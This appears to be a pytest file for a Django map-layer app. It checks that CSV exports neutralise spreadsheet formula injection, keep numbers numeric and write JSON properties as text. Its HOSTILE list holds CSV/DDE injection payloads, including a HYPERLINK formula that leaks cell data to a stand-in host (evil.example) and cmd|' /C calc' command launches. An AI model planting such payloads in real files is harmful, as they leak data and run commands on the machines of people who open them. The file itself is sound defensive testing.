"""Exports are safe to open: a CSV cell a spreadsheet would run as a formula is neutralised (a leading
single quote, the cell quoted, as OWASP recommends), numbers stay numbers, and JSON properties are
written as their JSON text."""

import csv
import io
import json

import pytest

from layers.models import Access
from tests.conftest import add_features, client_for, make_layer

pytestmark = pytest.mark.django_db

SCHEMA = [
    {"name": "name", "type": "string", "label_vi": "Tên", "label_en": "Name"},
    {"name": "level", "type": "number", "label_vi": "Mực nước", "label_en": "Level"},
    {"name": "code", "type": "string", "label_vi": "Mã", "label_en": "Code"},
    {"name": "bbox", "type": "json", "label_vi": "Khung", "label_en": "Bounding box"},
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def reports(db):
    layer = make_layer("reports", access=Access.PUBLIC, property_schema=SCHEMA)
    rows = [(f"r{i}", f"POINT({106.40 + i * 0.01} 10.53)", {"name": text, "level": -12.5, "code": "-7"})
            for i, text in enumerate(HOSTILE)]
    rows.append(("=evil-id", "POINT(106.5 10.6)", {"name": "Trạm Tân An", "level": 3, "code": "A-1",
                                                    "bbox": [106.3, 10.5, 106.5, 10.6]}))
    return add_features(layer, rows)


def exported_rows(client) -> list[dict]:
    response = client.get("/api/layers/reports/export.csv")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def raw_csv(client) -> str:
    response = client.get("/api/layers/reports/export.csv")
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8")


def test_every_formula_cell_comes_out_with_a_leading_quote(reports):
    rows = exported_rows(client_for(None))
    names = [r["name"] for r in rows]
    assert names[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert names[-1] == "Trạm Tân An"


def test_the_source_id_is_neutralised_too(reports):
    assert exported_rows(client_for(None))[-1]["source_id"] == "'=evil-id"


def test_formula_cells_are_quoted_in_the_file(reports):
    text = raw_csv(client_for(None))
    assert "\"'=cmd|' /C calc'!A0\"" in text
    assert "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Bấm vào đây\"\")\"" in text


def test_negative_numbers_stay_numbers(reports):
    rows = exported_rows(client_for(None))
    assert {r["level"] for r in rows} == {"-12.5", "3"}
    assert '"-12.5"' not in raw_csv(client_for(None))  # written bare, as a number
    assert {r["code"] for r in rows} == {"-7", "A-1"}  # text that is a plain number is no formula


def test_a_json_property_is_written_as_its_json_text(reports):
    rows = exported_rows(client_for(None))
    assert json.loads(rows[-1]["bbox"]) == [106.3, 10.5, 106.5, 10.6]
    assert rows[0]["bbox"] == ""


def test_the_geojson_export_keeps_json_and_text_as_they_are(reports):
    response = client_for(None).get("/api/layers/reports/export.geojson")
    body = json.loads(b"".join(response.streaming_content))
    props = {f["id"]: f["properties"] for f in body["features"]}
    assert props["=evil-id"]["bbox"] == [106.3, 10.5, 106.5, 10.6]
    assert props["r1"]["name"] == "=cmd|' /C calc'!A0"


def test_a_geopackage_export_holds_a_json_property_as_json_text(reports, tmp_path):
    from pyogrio import raw

    response = client_for(None).get("/api/layers/reports/export.gpkg")
    assert response.status_code == 200
    path = tmp_path / "reports.gpkg"
    path.write_bytes(response.content)
    meta, _fids, _geoms, fields = raw.read(path)
    names = list(meta["fields"])
    ids = list(fields[names.index("source_id")])
    assert json.loads(fields[names.index("bbox")][ids.index("=evil-id")]) == [106.3, 10.5, 106.5, 10.6]
    assert ids.index("=evil-id") >= 0  # not a CSV: text is left as it is
